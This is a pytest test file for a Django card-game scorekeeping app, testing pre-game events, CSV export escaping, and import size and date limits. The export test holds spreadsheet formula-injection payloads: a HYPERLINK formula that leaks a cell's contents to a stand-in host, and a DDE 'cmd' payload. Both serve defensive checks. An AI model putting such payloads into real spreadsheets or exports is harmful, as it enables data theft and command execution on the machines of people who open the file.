"""What a scorekeeper or a table file can put in, and what comes back out: events before the first
hand, the spreadsheet export's text cells, the import's size and date limits, and the characters a
name may hold."""

import csv
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse

from games import services
from games.models import HandChange, Table
from tests.fixtures import csrf_post, document, page, seeded

FOUR = ["Asha", "Bikash", "Chandra", "Dipa"]


def upload(client, table_file):
    data = table_file if isinstance(table_file, bytes) else json.dumps(table_file).encode()
    return csrf_post(client, reverse("import_file"),
                     {"file": SimpleUploadedFile("table.json", data, content_type="application/json")})


def pages_of(client, table):
    """Every page of the table answers (no 500 anywhere its events are shown)."""
    for name in ("table", "seats", "history", "export", "export_csv"):
        assert client.get(reverse(name, args=[table.keeper_token])).status_code == 200, name


# --- events before the first hand -------------------------------------------------------------

BEFORE_THE_FIRST_HAND = [
    {"kind": "join", "player": "Eka", "seat": "2", "score": "0"},
    {"kind": "leave", "player": "Dipa"},
    {"kind": "dealer", "player": "Bikash"},
    {"kind": "adjust", "reason": "pizza", "points-0": "-3", "points-1": "1", "points-2": "1", "points-3": "1"},
]


@pytest.mark.parametrize("data", BEFORE_THE_FIRST_HAND, ids=lambda data: data["kind"])
def test_an_event_before_the_first_hand_is_taken_and_kept_in_the_history(client, owner, data):
    table = seeded(owner, "marriage", [], players=FOUR)
    response = csrf_post(client, reverse("seats", args=[table.keeper_token]), data)
    assert response.status_code == 302
    table.refresh_from_db()
    assert [event["after"] for event in table.events] == [0]
    assert list(table.changes.values_list("action", "number")) == [(HandChange.EVENT, 0)]
    pages_of(client, table)
    response = csrf_post(client, reverse("take_back_event", args=[table.keeper_token, 0]))
    assert response.status_code == 302
    assert Table.objects.get(pk=table.pk).events == []


def test_a_file_with_events_before_the_first_hand_imports(client):
    events = [{"after": 0, "kind": "join", "player": "Eka", "seat": 1},
              {"after": 0, "kind": "leave", "player": "Dipa"},
              {"after": 0, "kind": "dealer", "player": "Bikash"},
              {"after": 0, "kind": "adjust", "points": {"Asha": 1, "Eka": -1, "Bikash": 0, "Chandra": 0},
               "reason": "pizza"}]
    assert upload(client, document("marriage", FOUR, [], events=events)).status_code == 302
    table = Table.objects.get()
    assert table.events == [{**events[0], "score": 0}, *events[1:]]
    pages_of(client, table)


# --- the spreadsheet export -------------------------------------------------------------------

LINK = '=HYPERLINK("http://x.io/"&A1,"Asha")'
TRICKY = [LINK, "+Bikash", "@Chandra", "-Dipa"]


def test_the_spreadsheet_writes_text_that_looks_like_a_formula_as_text_and_numbers_as_numbers(client, owner):
    hand = {name: {"status": "winner" if name == LINK else "seen", "maal": 5} for name in TRICKY}
    events = [{"after": 1, "kind": "adjust", "reason": "=1+1 pizza",
               "points": {LINK: -20, "+Bikash": 5, "@Chandra": 5, "-Dipa": 10}},
              {"after": 1, "kind": "join", "player": "=Eka", "seat": 4}]
    table = seeded(owner, "marriage", [hand], players=TRICKY, events=events)
    services.set_note(table, 1, "@SUM(1+1)*cmd|' /C calc'!A0")
    rows = list(csv.reader(io.StringIO(client.get(reverse("export_csv", args=[table.keeper_token])).content
                                       .decode())))
    header, first, adjusted, joined, totals = rows
    assert header == ["Hand", *(f"'{name}" for name in TRICKY), "'=Eka", "Note"]
    assert first[-1] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert adjusted[1:6] == ["-20", "5", "5", "10", ""] and adjusted[-1].startswith("'=1+1 pizza: ")
    assert joined[-1].startswith("'=Eka sat down")
    assert totals[0] == "Total" and all(cell.lstrip("-").isdigit() for cell in totals[1:])
    assert any(cell.startswith("-") for cell in totals[1:])  # a negative total, still a number


# --- the import: its size, its dates ----------------------------------------------------------

def test_a_table_file_over_the_limit_is_refused_beside_the_field_before_it_is_read(client, monkeypatch):
    def no_reading(*args, **kwargs):
        raise AssertionError("the file was read")

    big = json.dumps(document("marriage", FOUR, [], name="x" * services.MAX_FILE_BYTES)).encode()
    monkeypatch.setattr(json, "load", no_reading)
    response = upload(client, big)
    assert response.status_code == 413
    assert 'id="id_file-error">This file is too big: a table file can be at most 2 MB.' in page(response)
    assert Table.objects.count() == 0


def test_a_table_file_at_the_limit_is_read(client):
    table_file = json.dumps(document("marriage", FOUR, [])).encode()
    response = upload(client, table_file + b" " * (services.MAX_FILE_BYTES - len(table_file)))
    assert response.status_code == 302 and Table.objects.count() == 1


def import_command(path):
    """manage.py import_table `path`: (its standard error, its exit status)."""
    err = io.StringIO()
    with pytest.raises(SystemExit) as exit:
        call_command("import_table", str(path), stdout=io.StringIO(), stderr=err)
    return err.getvalue(), exit.value.code


@pytest.mark.django_db
def test_import_table_refuses_a_file_over_the_limit_in_one_line(tmp_path):
    big = tmp_path / "big.json"
    big.write_text(json.dumps(document("marriage", FOUR, [], name="x" * services.MAX_FILE_BYTES)))
    assert import_command(big) == (f"{big} is too big: a table file can be at most 2 MB\n", 1)
    assert Table.objects.count() == 0


@pytest.mark.parametrize("created", ["99999-01-01T00:00:00Z", "0000-01-01", "0001-01-01T00:00:00+05:00",
                                     "9999-12-31T23:59:59-05:00", "0001-01-01", "1899-12-31T23:59:59Z",
                                     "3000-01-01T00:00:00Z"])
def test_a_creation_date_out_of_range_is_refused(client, tmp_path, created):
    table_file = document("marriage", FOUR, [], created=created)
    response = upload(client, table_file)
    assert response.status_code == 422 and Table.objects.count() == 0
    assert "created: must be a" in page(response)
    path = tmp_path / "friday.json"
    path.write_text(json.dumps(table_file))
    error, status = import_command(path)
    assert status == 1 and error.startswith("invalid table file: created: must be a")


@pytest.mark.parametrize("created", ["1900-01-01T00:00:00Z", "2999-12-31T23:59:59Z"])
def test_a_creation_date_at_either_end_of_the_range_goes_round_the_pages_and_back(client, created):
    assert upload(client, document("marriage", FOUR, [], created=created)).status_code == 302
    table = Table.objects.get()
    pages_of(client, table)
    assert services.export_table(table)["created"] == created
